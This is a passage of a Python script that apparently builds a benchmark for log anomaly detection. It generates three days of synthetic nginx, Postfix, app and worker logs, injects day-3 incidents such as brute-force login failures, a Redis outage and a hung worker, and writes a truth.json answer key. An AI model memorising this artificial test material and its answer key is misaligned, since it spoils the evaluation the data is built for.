    h.fail.append((t, t + dur, "connect ECONNREFUSED 10.0.1.30:6379"))
    return dict(kind="http-5xx-burst", entities={}, duration=dur, files=["nginx/access.log", "app/api.log"],
                what=f"redis down: every API call of the real traffic and the LB's /healthz answer 5xx for {dur / 60:.1f} min; app 'request errored' ECONNREFUSED :6379")


def inc_mail_auth(h, t):
    r = h.rng
    ip = public_ip(r)
    ts = t
    for i in range(r.randint(60, 150)):
        pid = h.newpid()
        h.sys(ts, "postfix/smtpd", pid, f"connect from unknown[{ip}]", "mail.log")
        h.sys(ts + 0.8, "postfix/smtpd", pid, f"warning: unknown[{ip}]: SASL LOGIN authentication failed: UGFzc3dvcmQ6", "mail.log")
        h.sys(ts + 1.2, "postfix/smtpd", pid, f"lost connection after AUTH from unknown[{ip}]", "mail.log")
        h.sys(ts + 1.2, "postfix/smtpd", pid, f"disconnect from unknown[{ip}] ehlo=1 auth=0/1 rset=1 commands=2/3", "mail.log")
        ts += r.uniform(2, 8)
    return dict(kind="mail-auth-failures", entities={"ip": ip}, duration=ts - t, what=f"{ip}: 60-150 Postfix SASL LOGIN failures in minutes")


def inc_basic_auth(h, t):
    r = h.rng
    ip = public_ip(r)
    ts = t
    for i in range(r.randint(40, 120)):
        u = r.choice(["admin", "administrator", "root", "user", "monitor", "ops"])
        c = r.randint(1000, 99999)
        if u in ("admin",):
            h.nerr(ts, "error", f'user "{u}": password mismatch, client: {ip}, server: {h.domain}, request: "GET /admin/ HTTP/1.1", host: "{h.domain}"', c)
        else:
            h.nerr(ts, "error", f'user "{u}" was not found in "/etc/nginx/.htpasswd", client: {ip}, server: {h.domain}, request: "GET /admin/ HTTP/1.1", host: "{h.domain}"', c)
        h.access(ts, ip, "GET", "/admin/", 401, 179, "-", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)")
        ts += r.uniform(0.5, 4)
    return dict(kind="basic-auth-failures", entities={"ip": ip}, duration=ts - t, what=f"{ip} guesses HTTP basic auth on /admin/ (nginx password mismatch / user not found)")


def inc_new_error(h, t):
    r = h.rng
    ts = t
    for i in range(r.randint(3, 12)):
        h.worker(ts, "error", "ledger reconciliation aborted: balance invariant violated", job="reconcile_ledger",
                 account=f"acct_{hexs(r, 8)}", expected_cents=r.randint(1000, 99999), actual_cents=r.randint(1000, 99999))
        ts += r.uniform(20, 200)
    return dict(kind="never-seen-error", entities={}, duration=ts - t, what="worker: error 'ledger reconciliation aborted: balance invariant violated' never logged before")


def inc_spike(h, t):
    dur = 1800
    h.spike.append(("retry", t, t + dur, 12.0))
    return dict(kind="template-10x-spike", entities={}, duration=dur, alert_from=t + 60, files=["app/api.log"],
                what="api warn 'upstream request failed, retrying' (stock-service ETIMEDOUT) at 12x its usual ~18/h for 30 min (alert_from = +60 s: ~3.6 lines expected vs 0.3)")


def inc_cron_missing(h, t):
    # the */5 queue-health job stops (crontab overwritten by a deploy); t is rounded to its slot
    slot = t - (t % 300) + 120 + 300
    h.suppress.append(("cron:qhealth", slot - 1, slot + 6 * 3600))
    return dict(kind="cron-not-run", entities={}, start=slot, alert_from=slot + 60, duration=6 * 3600, files=[],
                what="CRON (app) '/usr/local/bin/queue-health.sh --quiet' every 5 min stops running (start = first missed slot, alert_from = 1 min later)")


def inc_silent(h, t):
    dur = 5400
    h.suppress.append(("worker", t, t + dur))
    h.worker(t + dur + 1, "info", "worker booted", concurrency=4)
    jobs_per_min = 2.2 * (0.5 + human_curve((t % DAY) / 3600))
    wait = max(120.0, 10 * 60 / jobs_per_min)   # ten mean gaps: P(such a gap in normal work) = e^-10
    return dict(kind="service-silent", entities={}, alert_from=t + wait, duration=dur, files=["app/worker.log"],
                what=f"app/worker.log ({jobs_per_min:.1f} jobs/min at that hour) goes silent for 90 min: the worker hangs (alert_from = start + 10 mean gaps = {wait:.0f} s)")


INCIDENTS = [inc_oom, inc_segfault, inc_restart_loop, inc_disk_full, inc_io_error, inc_kernel_hang, inc_tls, inc_new_user,
             inc_sudo, inc_login_after_failures, inc_db_errors, inc_fw_surge, inc_ssh_bf, inc_slow_distributed, inc_enum,
             inc_web_scan, inc_5xx, inc_mail_auth, inc_basic_auth, inc_new_error, inc_spike, inc_cron_missing, inc_silent]
# injected before background so that background generators see suppressions/spikes
PRE = {inc_spike, inc_cron_missing, inc_silent, inc_5xx}


# ----------------------------------------------------------------------------------------------------------


def write_host(h, root):
    base = os.path.join(root, h.name, "var", "log")
    t_end = h.t0 + 3 * DAY
    for rel, items in h.files.items():
        items.sort(key=lambda x: x[0])
        path = os.path.join(base, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if rel.startswith("nginx/"):
            # daily rotation with delaycompress: .2.gz = day 1, .1 = day 2, current = day 3
            days = [[], [], []]
            for ts, line in items:
                days[min(2, max(0, int((ts - h.t0) // DAY)))].append(line)
            for gen, name in ((0, path + ".2.gz"), (1, path + ".1"), (2, path)):
                data = ("\n".join(days[gen]) + "\n").encode() if days[gen] else b""
                if name.endswith(".gz"):
                    with gzip.GzipFile(name, "wb", mtime=int(h.t0 + (gen + 1) * DAY)) as f:
                        f.write(data)
                else:
                    with open(name, "wb") as f:
                        f.write(data)
                os.utime(name, (h.t0 + (gen + 1) * DAY, h.t0 + (gen + 1) * DAY))
        else:
            with open(path, "w") as f:
                for ts, line in items:
                    f.write(line)
                    f.write("\n")
            os.utime(path, (t_end, t_end))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--hosts", type=int, default=3)
    ap.add_argument("--out", required=True)
    ap.add_argument("--start", default="2026-11-23", help="first day (UTC); days 1-2 learn, day 3 has the incidents")
    a = ap.parse_args()
    t0 = dt.datetime.fromisoformat(a.start).replace(tzinfo=UTC).timestamp()
    rng = random.Random(a.seed)
    names = rng.sample(HOST_NAMES, a.hosts) if a.hosts <= len(HOST_NAMES) else [f"vps{i:02d}" for i in range(a.hosts)]
    hosts = [Host(n, i, a.seed, t0) for i, n in enumerate(names)]
    # every kind once on a random host, plus a few repeats elsewhere; at most ~9 per host, spaced in time
    kinds = INCIDENTS[:]
    rng.shuffle(kinds)
    plan = {h.name: [] for h in hosts}
    for i, k in enumerate(kinds):
        plan[hosts[i % len(hosts)].name].append(k)
    for k in rng.sample(INCIDENTS, max(0, min(6, 2 * len(hosts)))):
        h = rng.choice(hosts)
        if k not in plan[h.name] and k not in (inc_slow_distributed, inc_silent, inc_cron_missing, inc_spike):
            plan[h.name].append(k)
    truth = []
    for h in hosts:
        ks = plan[h.name]
        h.rng.shuffle(ks)
        # slots: day 3 from 00:40 to 23:00, each incident gets its own slot so windows never overlap
        d3 = t0 + 2 * DAY
        slot = (22.3 * 3600) / len(ks)
        pending = []
        for j, k in enumerate(ks):
            t = d3 + 2400 + j * slot + h.rng.uniform(0, max(60, slot - 1800))
            t = round(t, 3)
            if k in PRE:
                pending.append((k, t, k(h, t)))
            else:
                pending.append((k, t, None))
        for day in range(3):
            ds = t0 + day * DAY
            gen_web(h, ds, day)
            gen_ssh_background(h, ds)
            gen_system(h, ds, day)
            gen_kernel(h, ds, day)
            gen_mail(h, ds)
            gen_pg(h, ds)
            gen_app(h, ds)
        for k, t, info in pending:
            if info is None:
                h.touched = set()
                info = k(h, t)
                info.setdefault("files", sorted(h.touched))
                h.touched = None
            start = info.get("start", t)
            rec = {"host": h.name, "kind": info["kind"], "start": iso(start), "alert_from": iso(info.get("alert_from", start)),
                   "end": iso(start + info.get("duration", 0)), "entities": info["entities"], "what": info["what"],
                   "files": info.get("files", [])}
            if "also" in info:
                rec["also_expected"] = info["also"]
            if "debatable" in info:
                rec["debatable"] = info["debatable"]
            if "pre" in info:
                rec["precursor_from"] = iso(start - info["pre"])
            truth.append(rec)
        write_host(h, a.out)
        n = sum(len(v) for v in h.files.values())
        print(f"{h.name}: {n} lines ({n / 3:.0f}/day), syslog {'RFC3339' if h.iso_syslog else 'RFC3164'}, ssh prog {h.sshd}, "
              f"firewall {h.fw}, {len(ks)} incidents")
        h.files = {}
    truth.sort(key=lambda x: (x["host"], x["start"]))
    meta = {"seed": a.seed, "hosts": [h.name for h in hosts], "start": iso(t0, 0), "learn_until": iso(t0 + 2 * DAY, 0),
            "end": iso(t0 + 3 * DAY, 0), "incidents": truth}
    with open(os.path.join(a.out, "truth.json"), "w") as f:
        json.dump(meta, f, indent=1)
    print(f"{len(truth)} incidents -> {os.path.join(a.out, 'truth.json')}")


if __name__ == "__main__":
    main()
